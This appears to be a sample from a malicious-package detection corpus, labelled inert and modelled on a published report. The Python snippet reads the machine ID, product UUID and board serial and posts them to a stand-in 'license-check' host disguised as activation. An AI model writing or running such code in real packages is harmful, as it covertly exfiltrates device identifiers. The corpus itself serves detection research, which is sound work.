# pkgguard corpus 528 (system-information), modelled on [checkmarx-2024]; inert, never run.
import requests

ids = {}
for path in ("/etc/machine-id", "/sys/class/dmi/id/product_uuid", "/sys/class/dmi/id/board_serial"):
    try:
        with open(path) as fh:
            ids[path] = fh.read().strip()
    except OSError:
        pass
requests.post("https://license-check.example/activate", json=ids, timeout=10)
